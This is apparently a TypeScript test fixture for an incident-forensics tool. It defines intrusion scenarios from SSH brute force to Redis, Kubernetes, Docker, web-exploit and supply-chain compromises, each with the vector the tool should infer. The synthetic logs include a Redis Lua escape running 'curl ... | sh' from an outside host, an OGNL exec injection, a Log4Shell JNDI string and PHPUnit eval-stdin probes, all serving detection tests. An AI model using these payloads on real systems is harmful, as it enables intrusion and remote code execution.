import { kubernetesAudit } from '../../src/formats/log/services/kubernetes-audit.ts';
import { redisMonitor } from '../../src/formats/log/services/redis-monitor.ts';
import {
  accepted,
  door,
  entry,
  event,
  failures,
  key,
  left,
  miner,
  read,
  text,
} from '../../src/incident/incident.fixture.ts';
import { admin, attacker, later, logged, nginx, visitors, web } from './lines.fixture.ts';
import type { Scenario } from './scenario.ts';

const owners = 'SHA256:ooooooooooooooooooooooo';
const stranger = 'SHA256:sssssssssssssssssssssss';
const usual = ['01', '02', '05', '08']
  .map((day) => accepted(`2024-03-${day} 09:00:00`, 'root', admin, owners))
  .join('');
const ran = (when: string, account: string, command: string) =>
  event(when, { what: 'command', origin: 'history', account: text(account), command: text(command) });
const many = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, index) => `${20 + index}.${index}.113.${index + 1}`);
const audit = (parts: Record<string, unknown>): string =>
  JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    stage: 'ResponseComplete',
    ...parts,
  });
const byRoot = { files: [left('/root/.x/run.sh', '2024-03-10 02:33:00')] };

export const subForms: readonly Scenario[] = [
  {
    name: 'SSH: a list of users tried once from each of a hundred networks, and the right one from another',
    events: read(
      failures('2024-03-07 00:00:00', 900, 300, many(100), [
        'root',
        'admin',
        'deploy',
        'oracle',
        'postgres',
        'ubuntu',
        'test',
      ]) + accepted('2024-03-10 02:31:00', 'deploy', '192.0.2.77'),
    ),
    scene: { files: [left('/home/deploy/.x', '2024-03-10 02:32:00', 'deploy')] },
    ways: [
      {
        vector: 'ssh-brute-force',
        grade: 'confirmed',
        account: 'deploy',
        attackers: ['192.0.2.77'],
        success: '2024-03-10 02:31:00',
      },
    ],
  },
  {
    name: 'SSH: a neighbour of the same network guesses',
    events: read(
      failures('2024-03-10 02:00:00', 90, 20, ['10.0.0.9'], ['root', 'admin', 'pi']) +
        accepted('2024-03-10 02:31:00', 'root', '10.0.0.9'),
    ),
    scene: byRoot,
    ways: [{ vector: 'ssh-brute-force', grade: 'confirmed', account: 'root', attackers: ['10.0.0.9'] }],
  },
  {
    name: "SSH: the owner's key, stolen: from where he never was, and the trace follows",
    events: read(usual + accepted('2024-03-10 02:31:00', 'root', attacker, owners)),
    scene: { ...byRoot, keys: [key(owners, '2024-01-01 00:00:00', false)] },
    ways: [
      {
        vector: 'ssh-key',
        grade: 'probable',
        account: 'root',
        attackers: [attacker],
        missing: ['usual-key'],
        success: '2024-03-10 02:31:00',
      },
    ],
  },
  {
    name: 'SSH: a key that nobody had used, from where nobody was',
    events: read(usual + accepted('2024-03-10 02:31:00', 'root', attacker, stranger)),
    scene: byRoot,
    ways: [{ vector: 'ssh-key', grade: 'confirmed', account: 'root', attackers: [attacker] }],
  },
  {
    name: 'Redis: a script that leaves its box, as MONITOR showed it',
    events: logged(
      redisMonitor,
      '/var/log/redis/monitor.log',
      `${Date.UTC(2024, 2, 10, 2, 30) / 1000}.100000 [0 10.0.0.7:5000] "get" "session:1"`,
      `${Date.UTC(2024, 2, 10, 2, 31) / 1000}.200000 [0 ${attacker}:40000] "eval" "local l = package.loadlib(\\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\\", \\"luaopen_io\\"); local io = l(); io.popen(\\"curl -s http://192.0.2.1/x|sh\\")" "0"`,
    ),
    scene: {
      files: [left('/tmp/.x', '2024-03-10 02:31:05', 'redis')],
      miners: [miner('2024-03-10 02:31:20', 'redis')],
    },
    ways: [
      {
        vector: 'redis-lua',
        grade: 'confirmed',
        account: 'redis',
        attackers: [attacker],
        success: '2024-03-10 02:31:00',
      },
    ],
  },
  {
    name: 'Redis: no log at all, an open port, and its account mines',
    events: [],
    scene: { miners: [miner('2024-03-10 02:32:00', 'redis')], doors: [door('redis', 6379)] },
    ways: [
      {
        vector: 'redis-replication',
        grade: 'possible',
        attackers: [],
        missing: ['no-success-logged', 'no-file-within-minutes'],
      },
    ],
  },
  {
    name: 'Kubernetes: the token of a service account, from outside of the cluster',
    events: logged(
      kubernetesAudit,
      '/var/log/kubernetes/audit.log',
      audit({
        stageTimestamp: '2024-03-10T02:31:00.000000Z',
        verb: 'create',
        requestURI: '/api/v1/namespaces/kube-system/pods',
        user: { username: 'system:serviceaccount:default:ci' },
        sourceIPs: [attacker],
        objectRef: { resource: 'pods', namespace: 'kube-system', name: 'kube-proxy-x', apiVersion: 'v1' },
        responseStatus: { code: 201 },
      }),
    ),
    scene: { miners: [miner('2024-03-10 02:32:00', 'root', { container: 'abc' })] },
    ways: [
      {
        vector: 'kubelet',
        grade: 'confirmed',
        account: 'system:serviceaccount:default:ci',
        attackers: [attacker],
      },
    ],
  },
  {
    name: 'kubelet: no log, it stands open, and a pod mines',
    events: [],
    scene: {
      miners: [miner('2024-03-10 02:32:00', 'root', { container: 'abc' })],
      doors: [door('kubelet', 10250)],
    },
    ways: [{ vector: 'kubelet', grade: 'possible' }],
  },
  {
    name: 'Docker: a container that was there is told to run something, and another is built',
    events: web(
      nginx('2024-03-10 02:30:00', '/_ping'),
      nginx('2024-03-10 02:31:00', '/v1.41/containers/create?name=x', { method: 'POST', status: 201 }),
      nginx('2024-03-10 02:31:01', '/v1.41/containers/deadbeef0001/start', { method: 'POST', status: 204 }),
    ),
    scene: {
      containers: [
        {
          runtime: 'docker',
          id: 'deadbeef0001',
          name: text('x'),
          image: text('alpine'),
          hostAccess: true,
          accused: true,
          startedUs: Date.UTC(2024, 2, 10, 2, 31, 2) * 1000,
          source: { source: text('/var/lib/docker/containers/deadbeef0001/config.v2.json') },
          text: text('container x'),
        },
      ],
      entries: [entry('cron-drop-in', '/etc/cron.d/x', '2024-03-10 02:31:20')],
      doors: [door('docker', 2375)],
    },
    ways: [{ vector: 'docker-api', grade: 'confirmed', attackers: [attacker], account: 'root' }],
  },
  {
    name: 'web: PHPUnit answers 200, among a day of visitors and of scans',
    events: web(
      visitors('2024-03-09 00:00:00', 1500),
      ...['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/lib/phpunit/Util/PHP/eval-stdin.php'].map(
        (path) =>
          nginx('2024-03-10 01:00:00', path, { from: '192.0.2.4', method: 'POST', status: 404, size: 153 }),
      ),
      nginx('2024-03-10 02:31:00', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', { method: 'POST' }),
    ),
    scene: {
      files: [left('/tmp/.x/kdev', '2024-03-10 02:31:06', 'www-data')],
      miners: [miner('2024-03-10 02:31:20', 'www-data', { parents: [text('/usr/sbin/php-fpm8.2')] })],
    },
    ways: [
      {
        vector: 'web-exploit',
        grade: 'confirmed',
        account: 'www-data',
        attackers: [attacker],
        success: '2024-03-10 02:31:00',
      },
    ],
    // The scanner's is told as what it was.
    also: ({ excluded }) => {
      if (
        !excluded.some(
          ({ what, status, count }) => what === 'phpunit-eval-stdin' && status === 404 && count === 2,
        )
      )
        throw new Error('the scan is not told');
    },
  },
  {
    name: 'web: OGNL in a path of Confluence',
    events: web(
      visitors('2024-03-09 00:00:00', 300),
      nginx('2024-03-10 02:31:00', '/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/', {
        status: 302,
        size: 0,
      }),
    ),
    scene: { files: [left('/opt/atlassian/confluence/temp/.x', '2024-03-10 02:31:10', 'confluence')] },
    ways: [{ vector: 'web-exploit', grade: 'confirmed', account: 'confluence', attackers: [attacker] }],
  },
  {
    name: 'web: Log4Shell in an agent, blind, and the file of its service: no more than probable',
    events: web(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what the attacker sends
      nginx('2024-03-10 02:31:00', '/', { agent: '${jndi:ldap://203.0.113.66:1389/a}', size: 900 }),
    ),
    scene: { files: [left('/tmp/.x', '2024-03-10 02:31:10', 'tomcat')] },
    ways: [{ vector: 'web-exploit', grade: 'probable', account: 'tomcat', missing: ['no-success-logged'] }],
  },
  {
    name: 'web: React2Shell, of which a log has no more than a post to a page of Next.js',
    events: web(
      visitors('2024-03-09 00:00:00', 300),
      nginx('2024-03-09 12:00:00', '/_next/static/chunks/main.js', { from: '198.51.100.3', size: 90_000 }),
      nginx('2024-03-10 02:31:00', '/', { method: 'POST', status: 303, size: 0, agent: 'Mozilla/5.0' }),
    ),
    scene: {
      files: [left('/tmp/.x/kdev', '2024-03-10 02:31:04', 'nextjs')],
      miners: [miner('2024-03-10 02:31:10', 'nextjs', { parents: [text('/usr/bin/node')] })],
    },
    ways: [
      {
        vector: 'web-exploit',
        grade: 'probable',
        account: 'nextjs',
        attackers: [attacker],
        missing: ['no-success-logged'],
      },
    ],
  },
  {
    name: "web: Jenkins' console is posted to",
    events: web(nginx('2024-03-10 02:31:00', '/script', { method: 'POST', size: 9_000 })),
    scene: { files: [left('/var/lib/jenkins/.x', '2024-03-10 02:31:10', 'jenkins')] },
    ways: [{ vector: 'web-exploit', grade: 'confirmed', account: 'jenkins', attackers: [attacker] }],
  },
  {
    name: 'web shell: a script in the folder of uploads that a finding accuses, and its one client',
    events: web(
      visitors('2024-03-08 00:00:00', 2000),
      nginx('2024-03-10 02:30:50', '/wp-content/uploads/2024/03/x.php'),
      ...[0, 30, 70].map((seconds) =>
        nginx(later('2024-03-10 02:31:00', seconds), '/wp-content/uploads/2024/03/x.php', { method: 'POST' }),
      ),
    ),
    scene: {
      files: [
        left('/var/www/html/wp-content/uploads/2024/03/x.php', '2024-03-10 02:30:30', 'www-data'),
        left('/tmp/.x/kdev', '2024-03-10 02:31:40', 'www-data'),
      ],
    },
    ways: [{ vector: 'web-shell', grade: 'confirmed', account: 'www-data', attackers: [attacker] }],
  },
  {
    name: 'web shell: nothing accuses the script, but how it is used',
    events: web(
      visitors('2024-03-08 00:00:00', 2000),
      nginx('2024-03-10 02:31:00', '/uploads/avatar.php', { method: 'POST' }),
    ),
    scene: { files: [left('/tmp/.x/kdev', '2024-03-10 02:31:40', 'www-data')] },
    ways: [{ vector: 'web-shell', grade: 'probable', account: 'www-data', attackers: [attacker] }],
  },
  {
    name: 'pip: a package whose start file runs with every Python',
    events: [ran('2024-03-10 02:30:00', 'dev', 'pip install reqeusts')],
    scene: {
      entries: [
        entry(
          'python-path-file',
          '/home/dev/.venv/lib/python3.11/site-packages/x.pth',
          '2024-03-10 02:30:20',
          {
            account: text('dev'),
          },
        ),
      ],
    },
    ways: [{ vector: 'supply-chain', grade: 'confirmed', account: 'dev' }],
  },
  {
    name: "CI: a runner clones a repository whose hook is the attacker's",
    events: [ran('2024-03-10 02:30:00', 'gitlab-runner', 'git clone https://git.example.com/app.git')],
    scene: {
      entries: [
        entry('git-hook', '/home/gitlab-runner/builds/app/.git/hooks/post-checkout', '2024-03-10 02:30:10', {
          account: text('gitlab-runner'),
        }),
      ],
      miners: [miner('2024-03-10 02:31:00', 'gitlab-runner')],
    },
    ways: [{ vector: 'supply-chain', grade: 'confirmed', account: 'gitlab-runner' }],
  },
  {
    name: 'apt: a hook that a package of another source brought',
    events: [
      event('2024-03-10 02:30:00', {
        what: 'package',
        manager: 'apt',
        action: 'installed',
        package: text('driver-tools'),
        version: text('1'),
      }),
    ],
    scene: { entries: [entry('apt-hook', '/etc/apt/apt.conf.d/99update', '2024-03-10 02:30:04')] },
    ways: [{ vector: 'supply-chain', grade: 'confirmed', account: 'root' }],
  },
  {
    name: 'composer: a script of a package that was just required',
    events: [ran('2024-03-10 02:30:00', 'deploy', 'composer require evil/tools')],
    scene: {
      entries: [
        entry('composer-hook', '/srv/app/vendor/evil/tools/composer.json', '2024-03-10 02:30:09', {
          account: text('deploy'),
        }),
      ],
    },
    ways: [{ vector: 'supply-chain', grade: 'confirmed', account: 'deploy' }],
  },
  {
    name: 'a neighbour comes with a key that it never used here',
    events: read(usual + accepted('2024-03-10 02:31:00', 'root', '10.0.0.9', stranger)),
    scene: byRoot,
    ways: [{ vector: 'lateral', grade: 'confirmed', account: 'root', attackers: ['10.0.0.9'] }],
  },
];
